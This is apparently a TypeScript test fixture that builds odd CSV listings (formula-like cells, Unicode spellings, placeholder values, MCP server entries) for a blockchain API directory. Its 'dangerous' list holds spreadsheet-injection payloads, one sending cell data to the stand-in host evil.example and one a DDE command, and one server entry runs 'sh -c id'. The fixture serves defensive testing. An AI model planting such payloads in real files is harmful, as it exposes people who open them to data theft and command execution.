/** Odd cells in a small directory, and MCP servers of each kind: what the large one, which all other tests serve, has not. */
import { directory, toCsv } from './directory.ts';

/** Cells that a spreadsheet would run. */
export const dangerous = [
  ...[
    '=1+1',
    '=HYPERLINK("https://evil.example/?"&A1;"press")',
    "=cmd|' /C calc'!A0",
    '+49 30 1234',
    '-5% for students',
  ],
  ...['@SUM(1;2)', '＝1+1', '＋1', '－1', '＠x'],
];
/** Cells that only look a little like them. */
const harmless = ["it's = fine", "'quoted'", 'a,b;c', '"both"', 'two\nlines', 'tail=', '  ', '[a](=b)', '{"a":1}'];
const api = { planType: 'Free', apiType: 'RPC', chain: 'mainnet', starred: false, trial: true };
const formulas = [...dangerous, ...harmless].map((cell, at) => ({
  ...api,
  slug: `cell-${String(at).padStart(2, '0')}`,
  provider: at % 2 === 0 ? '=Sum & Co' : 'Aardvark',
  planName: cell,
  technology: dangerous[at] ?? 'Custom',
  regions: [cell.trim() === '' ? 'Europe' : cell, '=1+1'],
}));

/** Letters whose small form depends on where they stand, or is longer than they are. */
const letters = 'ΟΔΟΣ οδοσ οδος İstanbul istanbul i̇stanbul STRASSE Straße ǅ ǆ Ǆ ẞ ß K k'.split(' ');
const spellings = letters.map((technology, at) => ({ ...api, slug: `o${at}`, provider: 'Aardvark', technology }));

const explorer = {
  starred: false,
  fullHistory: true,
  smartContractsVerifications: true,
  technology: 'EVM',
  chain: 'mainnet',
  provider: 'Aardvark',
};
const placeholders = [
  { ...explorer, slug: 'a-scan', pricing: 'TBD', availableApis: ['REST', 'N/A'], searchCapabilities: ['#REF!'] },
  { ...explorer, slug: 'b-scan', pricing: 'Free', availableApis: ['REST'], searchCapabilities: ['blocks'] },
  { ...explorer, slug: 'c-scan', pricing: 'Paid', availableApis: ['GraphQL'], searchCapabilities: ['blocks'] },
];

const shared = {
  provider: 'Beacon',
  serverType: 'API',
  x402: false,
  onChainWrite: false,
  planType: 'Free',
  trial: false,
  starred: false,
};
const hosted = {
  ...shared,
  hostingType: 'Hosted',
  transportType: 'http',
  authType: 'API Key',
  credentialKey: 'beacon',
};
const own = { ...shared, hostingType: 'Self-hosted', transportType: 'stdio', authType: 'API Key' };
const servers = toCsv([
  { ...hosted, slug: 'beacon-hosted', mcpEndpoint: 'https://mcp.beacon.example/mcp' },
  {
    ...own,
    slug: 'beacon-local',
    selfHostedCommand: 'node',
    selfHostedArgs: ['path/to/server.mjs', '--verbose'],
    selfHostedRequiredEnvVars: ['BEACON_KEY'],
  },
  { ...own, slug: 'beacon-none' },
  { ...own, slug: 'beacon-shell', selfHostedCommand: 'sh', selfHostedArgs: ['-c', 'id'] },
]);
const endpoints = toCsv([
  {
    slug: 'beacon-rpc-mainnet',
    provider: 'Beacon',
    planType: 'Free',
    apiType: 'RPC',
    technology: 'EVM JSON-RPC',
    chain: 'mainnet',
    starred: false,
    trial: false,
    actionButtons: ['[Send requests](https://cela.beacon.example/v2/your-api-key)'],
  },
]);
/** MCP servers of each kind on `aria`, an RPC endpoint on `cela`, cells like formulas and placeholders on `bora`, spellings on `nemo`. */
export const oddTree = {
  ...directory,
  'references/providers/providers.csv': `${directory['references/providers/providers.csv']}sum,=Sum & Co,,,,,,,,,,,,\n`,
  'listings/specific-networks/aria/mcpservers.csv': servers,
  'listings/specific-networks/cela/apis.csv': endpoints,
  'listings/specific-networks/bora/apis.csv': toCsv(formulas),
  'listings/specific-networks/bora/explorers.csv': toCsv(placeholders),
  'listings/specific-networks/nemo/apis.csv': toCsv(spellings),
};
